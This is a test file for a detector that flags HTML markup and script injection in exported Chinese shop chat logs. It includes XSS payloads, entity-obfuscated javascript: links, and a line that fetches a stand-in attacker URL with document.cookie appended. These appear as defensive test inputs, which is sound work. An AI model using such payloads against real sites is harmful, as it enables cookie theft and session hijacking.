import fc from 'fast-check';
import { findMarkup } from './find-markup';

const CHAT = [
  '[2026-11-18 09:12:03] tb_buyer_8812: 亲，这个价格<50元的话我就删差评',
  '[2026-11-18 09:12:40] 小王的店: <图片>',
  '[2026-11-18 09:13:05] tb_buyer_8812: <表情> >_< 加我QQ 2847561923',
  '[2026-11-18 09:14:11] 小王的店: 发到我邮箱 <wang@shop.example.com> 吧',
].join('\n');

/** About 100 KB of chat before whatever a test hides after it. */
const LONG_CHAT = `${CHAT}\n`.repeat(400);

describe('finding markup in a text', () => {
  it.each([
    [
      'a file that opens with a comment and holds an SVG',
      '<!-- 千牛聊天记录导出 -->\n' + CHAT + '\n<svg onload=alert(document.cookie)>',
      'an HTML comment',
      1,
    ],
    [
      'a file that opens with a paragraph and holds a script',
      '<p>聊天记录</p>\n' + CHAT + "\n<script>fetch('//evil.example/'+document.cookie)</script>",
      'a <script> tag',
      6,
    ],
    [
      'a script after 100 KB of chat',
      LONG_CHAT + '<script>alert(1)</script>\n',
      'a <script> tag',
      1601,
    ],
    ['a tag in mixed case', '你好\n<ScRiPt>alert(1)</sCrIpT>', 'a <script> tag', 2],
    ['an end tag alone', 'text </SCRIPT> more', 'a <script> tag', 1],
    ['a tag broken across lines', 'hi\n<iframe\nsrc="//evil.example">', 'a <iframe> tag', 2],
    ['a tag that ends the text', 'hi <svg', 'a <svg> tag', 1],
    ['a tag with a slash for a space', '<svg/onload=alert(1)>', 'a <svg> tag', 1],
    ['a namespaced tag', '<x:script>alert(1)</x:script>', 'a <script> tag', 1],
    ['a comment', '聊天记录\n<!-- 导出 -->', 'an HTML comment', 2],
    ['a CDATA section', '<![CDATA[x]]>', 'a CDATA section', 1],
    ['a tag inside an attribute', '<p title="<script>">', 'a <script> tag', 1],
    ['a doctype', 'x\n<!DOCTYPE html>\n<p>hi</p>', 'a <!DOCTYPE> declaration', 2],
    ['an XML prolog', '<?xml version="1.0"?><x/>', 'an XML processing instruction (<?…?>)', 1],
    [
      'an event handler on a tag of any name',
      '客服: 好的\n<b\n  OnMouseOver = "alert(1)">点这里</b>',
      'an event handler attribute (on…=)',
      2,
    ],
    [
      'an event handler behind a quoted >',
      '<x title=">" onclick=alert(1)>',
      'an event handler attribute (on…=)',
      1,
    ],
    [
      'an event handler after 100 KB of chat',
      LONG_CHAT + '<b onclick=alert(1)>',
      'an event handler attribute (on…=)',
      1601,
    ],
    [
      'an event handler past the first megabyte, in a tag read in two slices',
      LONG_CHAT.repeat(20) + '<b\n' + ' '.repeat(1024 * 1024) + 'onclick=alert(1)>',
      'an event handler attribute (on…=)',
      32001,
    ],
    [
      'a tag where a long text is cut into slices',
      'x'.repeat(1024 * 1024 - 3) + ' <svg onload=alert(1)>',
      'a <svg> tag',
      1,
    ],
    ['a javascript: link', '<a href="javascript:alert(1)">退款</a>', 'a javascript: URL', 1],
    [
      'a javascript: link spelt with character references',
      '<a href="jav&#x61;script&colon;alert(1)">退款</a>',
      'a javascript: URL',
      1,
    ],
    [
      'a javascript: link with padded references and a tab',
      '<a href=" &#0000106;ava&Tab;script:alert(1)">x</a>',
      'a javascript: URL',
      1,
    ],
    ['a data: URL', '<a href=data:text/html,x>x</a>', 'a data: URL', 1],
    ['a style attribute', '<div style="position:fixed;inset:0">', 'a style attribute', 1],
  ])('refuses %s', async (_what, text, found, line) => {
    expect(await findMarkup(text)).toEqual({ found, line });
  });

  it.each([
    ['a Chinese chat log with <, > and an address in brackets', CHAT],
    ['100 KB of such chat', LONG_CHAT],
    ['markup escaped as entities', '他发来 &lt;script&gt;alert(1)&lt;/script&gt; 这种东西'],
    ['a < before a space', '< script>alert(1)< /script>'],
    ['tags that do nothing', '<b>加粗</b> <p>段落</p> <a href="https://shop.example/1">订单</a>'],
    ['a word that only begins like an element', '<scripts> <svgs> <imgur> <bodyguard>'],
    ['an attribute that only begins with on', '<Tom online> <Li only>'],
    ['a broken heart and an arrow', 'bye </3 ... <-- here <<>>'],
    ['an empty text', ''],
  ])('passes %s', async (_what, text) => {
    expect(await findMarkup(text)).toBeNull();
  });

  it('passes any mix of Chinese, digits, punctuation, < and > with no ASCII letter to open a tag', () =>
    fc.assert(
      fc.asyncProperty(
        fc.string({
          unit: fc.constantFrom(...'价格图片表情你好元<>/=_-@.:;?"\' \n05'),
          maxLength: 200,
        }),
        async (text) => expect(await findMarkup(text)).toBeNull(),
      ),
    ));
});
